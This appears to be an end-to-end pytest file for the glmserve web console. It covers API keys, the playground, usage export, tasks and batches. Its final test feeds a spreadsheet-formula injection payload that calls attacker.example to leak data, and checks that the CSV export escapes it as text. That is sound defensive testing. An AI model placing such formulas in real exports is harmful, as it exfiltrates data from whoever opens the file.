"""The web console in a real headless Chromium against a real glmserve (conftest.py).

Run in order: the admin creates the key the later tests sign in with.
"""

from __future__ import annotations

import csv
import io
import json
import os
import subprocess
import sys
import time
from pathlib import Path
from typing import Any

import httpx
import pytest

from tests.conftest import Server
from tests.e2e.console.conftest import (
    ADMIN_KEY,
    ANSWER,
    REASONING,
    TOOL_ARGUMENTS,
    TOOL_REASONING,
    TOOL_RESULT_ANSWER,
    WEATHER_TOOL,
    shot,
    sign_in,
)

# Records every text the answer and reasoning panes show, to see them stream in.
WATCH = """() => {
  window.seen = {answer: new Set(), reasoning: new Set()};
  new MutationObserver(() => {
    const turn = [...document.querySelectorAll('.turn.assistant')].pop();
    if (!turn) return;
    window.seen.answer.add(turn.querySelector('.answer').textContent);
    window.seen.reasoning.add(turn.querySelector('.reasoning-text').textContent);
  }).observe(document.querySelector('#transcript'),
             {subtree: true, childList: true, characterData: true});
}"""


@pytest.fixture(scope="module")
def user_key(console_server: Server) -> dict[str, str]:
    """Filled by the key test: the key the admin created in the browser."""
    return {}


def _api(server: Server, method: str, path: str, key: str, **kw: Any) -> httpx.Response:
    headers = {"Authorization": f"Bearer {key}"} if key else {}
    return httpx.request(method, server.base + path, headers=headers, timeout=60, **kw)


def test_sign_in_refuses_a_wrong_key_and_admits_the_admin(
    page: Any, console_server: Server
) -> None:
    page.goto(f"{console_server.base}/console/")
    page.wait_for_selector("#sign-in:not([hidden])")
    page.fill("#sign-in-key", "nope.wrong")
    page.click("#sign-in-form button")
    page.wait_for_selector("#sign-in-error:not(:empty)")
    assert "(code 1002)" in page.text_content("#sign-in-error")
    assert page.is_hidden("#content")
    shot(page, "sign-in")
    sign_in(page, console_server, ADMIN_KEY)
    assert page.text_content("#who") == "admin"
    # The key is in this tab's sessionStorage, nowhere in the page.
    assert ADMIN_KEY not in page.content()


def test_admin_creates_tops_up_and_revokes_keys(
    page: Any, console_server: Server, user_key: dict[str, str]
) -> None:
    sign_in(page, console_server, ADMIN_KEY, "keys")
    for name, balance in (("playground", "5"), ("short-lived", "")):
        page.fill("#key-name", name)
        page.select_option("#key-tier", "V1")
        page.fill("#key-balance", balance)
        page.click("#create-key button[type=submit]")
        page.wait_for_selector(f"#keys-table tr:has-text('{name}')")
        user_key[name] = page.text_content("#new-key-value")
    key = user_key["playground"]
    key_id, _, secret = key.partition(".")
    assert len(key_id) == 32 and len(secret) == 32
    me = _api(console_server, "GET", "/console/api/me", key).json()
    assert me["key"]["name"] == "playground" and me["key"]["tier"] == "V1"

    row = page.locator(f"tr[data-key='{key_id}']")
    assert row.locator(".balance").text_content() == "5.000000"
    row.locator("input.amount").fill("2.5")
    row.locator("button:has-text('Top up')").click()
    page.wait_for_selector(f"tr[data-key='{key_id}'] .balance:text('7.500000')")

    doomed = user_key["short-lived"]
    assert _api(console_server, "GET", "/console/api/me", doomed).status_code == 200
    page.once("dialog", lambda dialog: dialog.accept())
    doomed_id = doomed.split(".")[0]
    page.click(f"tr[data-key='{doomed_id}'] button:has-text('Revoke')")
    page.wait_for_selector(f"tr[data-key='{doomed_id}'] .status:text-matches('revoked')")
    assert _api(console_server, "GET", "/console/api/me", doomed).status_code == 401
    # The secret is shown once; the saved screenshot shows its id only.
    page.evaluate(
        "() => { const c = document.querySelector('#new-key-value');"
        " c.textContent = c.textContent.split('.')[0] + '.••••••••'; }"
    )
    listed = {
        k["id"]: k for k in _api(console_server, "GET", "/admin/keys", ADMIN_KEY).json()["data"]
    }
    assert (
        listed[doomed_id]["revoked_at"] is not None and listed[key_id]["balance"] == "7.500000000"
    )
    shot(page, "keys")


def test_the_keys_page_shows_a_plan_s_windows_filling(page: Any, console_server: Server) -> None:
    made = _api(console_server, "POST", "/admin/keys", ADMIN_KEY, json={"name": "coder"}).json()
    key, key_id = made["api_key"], made["id"]
    on_plan = _api(
        console_server, "POST", f"/admin/keys/{key_id}/plan", ADMIN_KEY, json={"plan": "lite"}
    )
    assert on_plan.status_code == 200
    chat = {"model": "glm-4.7", "messages": [{"role": "user", "content": "hi"}], "max_tokens": 4}
    answered = _api(console_server, "POST", "/api/coding/paas/v4/chat/completions", key, json=chat)
    assert answered.status_code == 200, answered.text
    sign_in(page, console_server, ADMIN_KEY, "keys")
    cell = page.locator(f"tr[data-key='{key_id}'] .plan")
    cell.locator(".window:text('5 hours 1 / 80')").wait_for()
    assert "week 1 / 400" in cell.text_content()
    assert cell.locator(".meter span").count() == 2
    # the key's holder sees the same windows
    holder = page.context.new_page()
    sign_in(holder, console_server, key, "keys")
    holder.locator(".plan .window:text('5 hours 1 / 80')").wait_for()
    shot(page, "keys-plan")


def test_the_admin_chats_with_a_key_made_for_the_playground(
    page: Any, console_server: Server
) -> None:
    sign_in(page, console_server, ADMIN_KEY, "keys")
    page.fill("#key-name", "admin-chat")
    page.click("#create-key button[type=submit]")
    page.wait_for_selector("#new-key:not([hidden])")
    issued = page.text_content("#new-key-value")
    page.click("#use-new-key")
    page.wait_for_url("**/console/playground")
    page.wait_for_selector("#playground-key-box:not([hidden])")
    assert page.input_value("#playground-key") == issued
    page.wait_for_selector("#model option[value='glm-4.7']", state="attached")
    page.fill("#message", "Hello there")
    page.click("#send")
    page.wait_for_selector(f".turn.assistant .answer:text('{ANSWER}')")
    records = _usage_once_recorded(console_server, issued.split(".")[0], requests=1)
    assert [r["requests"] for r in records] == [1]


def test_a_key_holder_sees_only_their_key(
    page: Any, console_server: Server, user_key: dict[str, str]
) -> None:
    sign_in(page, console_server, user_key["playground"], "keys")
    assert page.text_content("#who") == "key playground"
    assert page.is_hidden("#create-key-card")
    rows = page.locator("#keys-table tbody tr")
    assert rows.count() == 1 and "playground" in rows.text_content()
    # The admin API stays the admin's.
    assert _api(console_server, "GET", "/admin/keys", user_key["playground"]).status_code == 401


def test_playground_streams_reasoning_then_answer(
    page: Any, console_server: Server, user_key: dict[str, str]
) -> None:
    sign_in(page, console_server, user_key["playground"])
    page.wait_for_selector("#model option[value='glm-4.7']", state="attached")
    page.select_option("#model", "glm-4.7")
    page.evaluate(WATCH)
    page.fill("#message", "Hello there")
    page.press("#message", "Enter")
    page.wait_for_selector(".turn.assistant .usage:text-matches('completion')")
    turn = page.locator(".turn.assistant").last
    assert turn.locator(".reasoning-text").text_content() == REASONING
    assert turn.locator(".reasoning").is_visible()
    assert turn.locator(".answer").text_content() == ANSWER
    seen = page.evaluate("() => ({a: [...window.seen.answer], r: [...window.seen.reasoning]})")
    # Streamed: the panes showed growing prefixes of the texts, not just the end result.
    partial_answers = [t for t in seen["a"] if t and t != ANSWER]
    assert len(partial_answers) >= 3 and all(ANSWER.startswith(t) for t in partial_answers)
    assert len([t for t in seen["r"] if t and t != REASONING]) >= 3
    usage = turn.locator(".usage").text_content()
    assert "cached" in usage and "finish stop" in usage
    # The reasoning pane folds.
    turn.locator(".reasoning summary").click()
    assert not turn.locator(".reasoning-text").is_visible()
    turn.locator(".reasoning summary").click()
    shot(page, "playground")


def test_playground_shows_a_tool_call_as_it_builds_and_sends_the_result(
    page: Any, console_server: Server, user_key: dict[str, str]
) -> None:
    sign_in(page, console_server, user_key["playground"])
    page.wait_for_selector("#model option[value='glm-4.7']", state="attached")
    page.fill("#tools", json.dumps(WEATHER_TOOL, indent=2))
    page.evaluate(
        """() => { window.args = new Set(); new MutationObserver(() => {
          const a = document.querySelector('.tool-args'); if (a) window.args.add(a.textContent);
        }).observe(document.querySelector('#transcript'),
                   {subtree: true, childList: true, characterData: true}); }"""
    )
    page.fill("#message", "What is the weather in Paris?")
    page.click("#send")
    page.wait_for_selector(".turn.assistant .usage:text-matches('tool_calls')")
    turn = page.locator(".turn.assistant").last
    assert turn.locator(".reasoning-text").text_content() == TOOL_REASONING
    assert turn.locator(".tool-name").text_content() == "tool call: get_weather"
    assert json.loads(turn.locator(".tool-args").text_content()) == TOOL_ARGUMENTS
    # tool_stream: the arguments were shown while they built up.
    assert len(page.evaluate("() => [...window.args]")) >= 3
    page.fill("#message", '{"temp": 21, "sky": "sunny"}')
    page.click("#send")
    page.wait_for_selector(f".turn.assistant .answer:text('{TOOL_RESULT_ANSWER}')")
    assert page.locator(".turn.tool").count() == 1
    shot(page, "playground-tools")


def test_playground_web_search_toggle_shows_the_results(
    page: Any, console_server: Server, user_key: dict[str, str]
) -> None:
    sign_in(page, console_server, user_key["playground"])
    page.wait_for_selector("#model option[value='glm-4.7']", state="attached")
    page.select_option("#model", "glm-4.7")
    page.check("#web_search")
    page.fill("#message", "What do river otters eat?")
    page.press("#message", "Enter")
    page.wait_for_selector(".turn.assistant .usage:text-matches('completion')")
    turn = page.locator(".turn.assistant").last
    assert turn.locator(".answer").text_content() == ANSWER
    first = turn.locator(".web-search li").first
    assert first.get_attribute("data-refer") == "ref_1"
    assert first.locator("a").text_content() == "River otter care"
    assert first.locator("a").get_attribute("href") == "https://docs.example.com/guides/otters.md"
    assert "2026-10-01" in (first.text_content() or "")
    page.click("#copy-curl")
    assert '"type": "web_search"' in (page.locator("#copied").text_content() or "")
    shot(page, "playground-web-search")


def test_copy_as_curl_and_python_run_as_printed(
    page: Any, console_server: Server, user_key: dict[str, str]
) -> None:
    sign_in(page, console_server, user_key["playground"])
    page.wait_for_selector("#model option[value='glm-4.7']", state="attached")
    page.fill("#message", "Hello there")
    page.click("#copy-curl")
    curl = page.text_content("#copied")
    assert user_key["playground"] not in curl and "$ZAI_API_KEY" in curl
    env = {**os.environ, "ZAI_API_KEY": user_key["playground"]}
    out = subprocess.run(["sh", "-c", curl], capture_output=True, text=True, env=env, timeout=60)
    events = [json.loads(line[6:]) for line in out.stdout.splitlines() if line[6:].startswith("{")]
    text = "".join(e["choices"][0]["delta"].get("content") or "" for e in events)
    assert text == ANSWER, out.stdout + out.stderr
    page.click("#copy-python")
    script = page.text_content("#copied")
    assert user_key["playground"] not in script and "ZaiClient" in script
    out = subprocess.run(
        [sys.executable, "-c", script], capture_output=True, text=True, env=env, timeout=60
    )
    assert out.stdout == REASONING + ANSWER, out.stderr


def _usage_once_recorded(server: Server, key_id: str, requests: int) -> list[dict[str, Any]]:
    """The key's usage rows once ``requests`` requests are in the ledger (each record is
    written just after its response has been sent)."""
    for _ in range(100):
        rows = _api(server, "GET", f"/admin/usage?key={key_id}", ADMIN_KEY).json()["data"]
        if sum(r["requests"] for r in rows) >= requests:
            return rows  # type: ignore[no-any-return]
        time.sleep(0.1)
    raise AssertionError(f"the ledger never held {requests} requests of {key_id}: {rows}")


def _tokens(rows: list[dict[str, Any]]) -> int:
    return sum(r["prompt_tokens"] + r["completion_tokens"] for r in rows)


def _chart_total(page: Any) -> int:
    page.wait_for_selector("#chart-day svg")
    return int(page.get_attribute("#chart-day svg", "data-total"))


def test_usage_chart_and_table_follow_requests(
    page: Any, console_server: Server, console_config: Path, user_key: dict[str, str]
) -> None:
    key = user_key["playground"]
    key_id = key.split(".")[0]
    rows_before = _usage_once_recorded(console_server, key_id, 0)
    sign_in(page, console_server, key, "usage")
    before = _chart_total(page)
    assert before == _tokens(rows_before)  # no request of this key is in flight
    done = sum(r["requests"] for r in rows_before)
    body = {"model": "glm-4.7", "messages": [{"role": "user", "content": "Hello again"}]}
    usage = _api(console_server, "POST", "/api/paas/v4/chat/completions", key, json=body).json()[
        "usage"
    ]
    _usage_once_recorded(console_server, key_id, done + 1)
    page.reload()
    after = _chart_total(page)
    assert after - before == usage["prompt_tokens"] + usage["completion_tokens"]
    # The same rows as the admin API's report of this key.
    admin = _api(console_server, "GET", f"/admin/usage?key={key_id}", ADMIN_KEY).json()["data"]
    with page.expect_download() as download:
        page.click("#export-csv")
    rows = list(csv.DictReader(io.StringIO(Path(download.value.path()).read_text())))
    assert [
        (
            r["day"],
            r["model"],
            int(r["requests"]),
            int(r["prompt_tokens"]),
            int(r["cached_tokens"]),
            r["cost"],
        )
        for r in rows
    ] == [
        (a["day"], a["model"], a["requests"], a["prompt_tokens"], a["cached_tokens"], a["cost"])
        for a in admin
    ]
    assert page.locator("#usage-table tbody tr").count() == len(admin)
    # ... and the same numbers as `glmserve usage`.
    command = ["usage", "--json", "--key", key_id, "--config", str(console_config)]
    cli = subprocess.run(
        [sys.executable, "-m", "glmserve", *command],
        capture_output=True,
        text=True,
        timeout=60,
        check=True,
    )
    assert [
        (c["day"], c["model"], c["requests"], c["prompt_tokens"], c["cached_tokens"], c["cost"])
        for c in json.loads(cli.stdout)
    ] == [
        (
            r["day"],
            r["model"],
            int(r["requests"]),
            int(r["prompt_tokens"]),
            int(r["cached_tokens"]),
            r["cost"],
        )
        for r in rows
    ]
    shot(page, "usage")


def test_usage_of_a_key_holder_is_their_own(
    console_server: Server, user_key: dict[str, str]
) -> None:
    key = user_key["playground"]
    other = user_key["short-lived"].split(".")[0]
    mine = _api(console_server, "GET", f"/console/api/usage?key={other}", key).json()["data"]
    assert mine and {r["key"] for r in mine} == {key.split(".")[0]}
    assert _api(console_server, "GET", "/console/api/usage", "").status_code == 401
    assert _api(console_server, "GET", "/console/api/status", "wrong.key").status_code == 401


def test_models_page_shows_engines_and_worker_health(
    page: Any, console_server: Server, user_key: dict[str, str]
) -> None:
    body = {"model": "glm-4.7-remote", "messages": [{"role": "user", "content": "Hi"}]}
    reply = _api(
        console_server, "POST", "/api/paas/v4/chat/completions", user_key["playground"], json=body
    )
    assert reply.status_code == 200, reply.text
    sign_in(page, console_server, ADMIN_KEY, "models")
    embedded = page.locator("[data-model='glm-4.7']")
    embedded.wait_for()
    assert embedded.get_attribute("data-health") == "up"
    assert embedded.locator("[data-fact='engine']").text_content() == "llama"
    assert embedded.locator("[data-fact='context']").text_content() == "2,048"
    assert int(embedded.locator("[data-fact='generated']").text_content().replace(",", "")) > 0
    remote = page.locator("[data-model='glm-4.7-remote']")
    assert remote.locator("[data-fact='engine']").text_content() == "remote"
    health = remote.locator("tr[data-worker] .badge").all_text_contents()
    assert sorted(health) in (["down", "up"], ["down", "unknown"])
    assert remote.get_attribute("data-health") == "degraded" or "unknown" in health
    up = remote.locator("tr[data-worker]:has(.badge:text('up')) td").all_text_contents()
    assert up[4] == "1"  # routed: the request above went to the worker that answers
    # tokens/s needs two reads of the counters, 2 seconds apart.
    page.wait_for_function(
        "() => document.querySelector(\"[data-model='glm-4.7'] [data-fact='tokens/s']\")"
        ".textContent !== '…'"
    )
    shot(page, "models")


def test_tasks_page_lists_the_keys_async_tasks(
    page: Any, console_server: Server, user_key: dict[str, str]
) -> None:
    key = user_key["playground"]
    body = {"model": "glm-4.7", "messages": [{"role": "user", "content": "Hello, async"}]}
    task = _api(
        console_server, "POST", "/api/paas/v4/async/chat/completions", key, json=body
    ).json()
    for _ in range(300):
        got = _api(console_server, "GET", f"/api/paas/v4/async-result/{task['id']}", key).json()
        if got["task_status"] != "PROCESSING":
            break
        time.sleep(0.1)
    sign_in(page, console_server, key, "tasks")
    row = page.locator(f"tr[data-task='{task['id']}']")
    row.wait_for()
    assert row.locator(".badge").text_content() == "SUCCESS"
    row.locator("button:has-text('Result')").click()
    page.wait_for_selector("#task-result:not([hidden])")
    result = json.loads(page.text_content("#task-result"))
    assert result["choices"][0]["message"]["content"] == ANSWER
    shot(page, "tasks")


def test_console_routes_answer_bad_requests_with_zai_errors(
    console_server: Server, user_key: dict[str, str]
) -> None:
    key = user_key["playground"]
    page = httpx.get(f"{console_server.base}/console/nothing-here", timeout=10)
    assert page.status_code == 404 and "error" in page.json()
    bad = _api(console_server, "GET", "/console/api/usage?since=yesterday", key)
    assert bad.status_code == 400 and "since" in bad.json()["error"]["message"]
    html = httpx.get(f"{console_server.base}/console/usage", timeout=10)
    assert (
        html.status_code == 200 and "script-src 'self'" in html.headers["content-security-policy"]
    )


def test_tasks_of_other_keys_stay_hidden(console_server: Server, user_key: dict[str, str]) -> None:
    mine = {
        t["id"]
        for t in _api(console_server, "GET", "/console/api/tasks", user_key["playground"]).json()[
            "data"
        ]
    }
    assert mine
    created = _api(console_server, "POST", "/admin/keys", ADMIN_KEY, json={"name": "other"}).json()
    other = _api(console_server, "GET", "/console/api/tasks", created["api_key"]).json()["data"]
    assert other == []
    every = _api(console_server, "GET", "/console/api/tasks", ADMIN_KEY).json()["data"]
    assert mine <= {t["id"] for t in every}


BUDGET = 3  # reasoning tokens; the scripted reasoning is longer


def test_playground_thinking_budget_cuts_the_reasoning(
    page: Any, console_server: Server, user_key: dict[str, str]
) -> None:
    key = user_key["playground"]
    body = {"model": "glm-4.7", "messages": [{"role": "user", "content": "Hello there"}]}
    full = _api(console_server, "POST", "/api/paas/v4/chat/completions", key, json=body).json()
    cut = _api(
        console_server,
        "POST",
        "/api/paas/v4/chat/completions",
        key,
        json={**body, "thinking": {"type": "enabled", "budget_tokens": BUDGET}},
    ).json()
    reasoning_tokens = cut["usage"]["completion_tokens_details"]["reasoning_tokens"]
    assert full["choices"][0]["message"]["reasoning_content"] == REASONING
    # Cut after BUDGET tokens of the scripted reasoning, then glmserve's closing sentence.
    cut_reasoning = cut["choices"][0]["message"]["reasoning_content"]
    pairs = enumerate(zip(cut_reasoning, REASONING, strict=False))
    kept = next((i for i, (a, b) in pairs if a != b), len(cut_reasoning))
    assert 0 < kept < len(REASONING) // 2, cut_reasoning
    sign_in(page, console_server, key)
    page.wait_for_selector("#model option[value='glm-4.7']", state="attached")
    page.select_option("#model", "glm-4.7")
    # The budget goes with thinking: off, it is greyed out and left out of the request.
    page.uncheck("#thinking")
    assert page.is_disabled("#budget_tokens")
    page.check("#thinking")
    page.fill("#budget_tokens", str(BUDGET))
    page.fill("#message", "Hello there")
    page.click("#copy-python")
    script = page.text_content("#copied")
    assert f'"budget_tokens": {BUDGET}' in script
    page.click("#send")
    page.wait_for_selector(".turn.assistant .usage:text-matches('completion')")
    turn = page.locator(".turn.assistant").last
    shown = turn.locator(".reasoning-text").text_content()
    assert shown == cut["choices"][0]["message"]["reasoning_content"] and shown != REASONING
    assert turn.locator(".answer").text_content() == ANSWER
    usage = turn.locator(".usage")
    assert usage.get_attribute("data-reasoning") == str(reasoning_tokens)
    assert f"(reasoning {reasoning_tokens})" in usage.text_content()
    # The Python snippet sends the budget too: the same cut reasoning, then the answer.
    env = {**os.environ, "ZAI_API_KEY": key}
    out = subprocess.run(
        [sys.executable, "-c", script], capture_output=True, text=True, env=env, timeout=60
    )
    assert out.stdout == shown + ANSWER, out.stderr
    shot(page, "playground-budget")


def _upload(server: Server, key: str, name: str, data: bytes) -> dict[str, Any]:
    reply = _api(
        server,
        "POST",
        "/api/paas/v4/files",
        key,
        files={"file": (name, data, "application/jsonl")},
        data={"purpose": "batch"},
    )
    assert reply.status_code == 200, reply.text
    return reply.json()  # type: ignore[no-any-return]


def test_batches_page_shows_a_batch_to_completion_and_its_files(
    page: Any, console_server: Server, user_key: dict[str, str]
) -> None:
    key = user_key["playground"]
    good = {
        "custom_id": "greet",
        "method": "POST",
        "url": "/v4/chat/completions",
        "body": {"model": "glm-4.7", "messages": [{"role": "user", "content": "Hello, batch"}]},
    }
    lines = json.dumps(good) + "\n" + "this line is not JSON\n"
    uploaded = _upload(console_server, key, "requests.jsonl", lines.encode())
    batch = _api(
        console_server,
        "POST",
        "/api/paas/v4/batches",
        key,
        json={
            "input_file_id": uploaded["id"],
            "endpoint": "/v4/chat/completions",
            "completion_window": "24h",
            "auto_delete_input_file": False,
        },
    ).json()
    sign_in(page, console_server, key, "batches")
    row = page.locator(f"tr[data-batch='{batch['id']}']")
    row.wait_for()
    # The page shows the batch as it moves: refresh until it has completed.
    for _ in range(600):
        if row.locator(".badge").text_content() in ("completed", "failed"):
            break
        page.click("#refresh-batches")
        page.wait_for_timeout(200)
    assert row.locator(".badge").text_content() == "completed"
    assert row.locator(".counts").text_content() == "1 / 1 / 2"
    done = _api(console_server, "GET", f"/api/paas/v4/batches/{batch['id']}", key).json()
    assert row.locator("td").nth(2).text_content() == "/v4/chat/completions"
    # The output file downloads through the API with the key header.
    with page.expect_download() as download:
        row.locator(f"button[data-file='{done['output_file_id']}']").click()
    out = [json.loads(line) for line in Path(download.value.path()).read_text().splitlines()]
    assert [o["custom_id"] for o in out] == ["greet"]
    assert out[0]["response"]["body"]["choices"][0]["message"]["content"] == ANSWER
    with page.expect_download() as download:
        row.locator(f"button[data-file='{done['error_file_id']}']").click()
    errors = [json.loads(line) for line in Path(download.value.path()).read_text().splitlines()]
    assert len(errors) == 1
    files = page.locator("#files-table")
    for file_id in (uploaded["id"], done["output_file_id"], done["error_file_id"]):
        assert files.locator(f"tr[data-file-row='{file_id}']").count() == 1
    assert "requests.jsonl" in files.locator(f"tr[data-file-row='{uploaded['id']}']").text_content()
    shot(page, "batches")


def test_batches_page_pages_with_more_and_tells_the_admin_why_it_is_empty(
    page: Any, console_server: Server, user_key: dict[str, str]
) -> None:
    key = user_key["playground"]
    line = json.dumps({"custom_id": "x", "url": "/v4/chat/completions", "body": {}}) + "\n"
    ids = [_upload(console_server, key, f"page-{i}.jsonl", line.encode())["id"] for i in range(21)]
    listed = _api(console_server, "GET", "/api/paas/v4/files?limit=100", key).json()["data"]
    sign_in(page, console_server, key, "batches")
    rows = page.locator("#files-table tbody tr")
    page.wait_for_selector(f"tr[data-file-row='{ids[-1]}']")
    assert rows.count() == 20
    page.click("#more-files")
    page.wait_for_function("() => document.querySelectorAll('#files-table tbody tr').length > 20")
    shown = [r.get_attribute("data-file-row") for r in rows.all()]
    assert shown == [f["id"] for f in listed][: len(shown)] and set(ids) <= set(shown)
    # The API lists batches per key; there is no admin listing to show.
    page.evaluate("() => sessionStorage.clear()")
    sign_in(page, console_server, ADMIN_KEY, "batches")
    assert page.is_visible("#batches-admin") and page.is_hidden("#batches-card")


def test_the_csv_export_keeps_a_formula_a_client_chose_as_text(
    page: Any, console_server: Server
) -> None:
    made = _api(
        console_server, "POST", "/admin/keys", ADMIN_KEY, json={"name": "csv", "tier": "V3"}
    )
    key = made.json()["api_key"]
    formula = '=HYPERLINK("http://attacker.example/?leak","open me")'
    body = {"model": formula, "messages": [{"role": "user", "content": "Hello"}]}
    r = _api(console_server, "POST", "/api/paas/v4/chat/completions", key, json=body)
    assert r.json()["error"]["code"] == "1211"  # unknown model: recorded as an error
    _usage_once_recorded(console_server, key.split(".")[0], 1)
    sign_in(page, console_server, key, "usage")
    page.wait_for_selector("#chart-day svg")
    with page.expect_download() as download:
        page.click("#export-csv")
    rows = list(csv.DictReader(io.StringIO(Path(download.value.path()).read_text())))
    # A spreadsheet reads a cell starting with an apostrophe as text, not as a formula.
    assert [r["model"] for r in rows] == ["'" + formula]
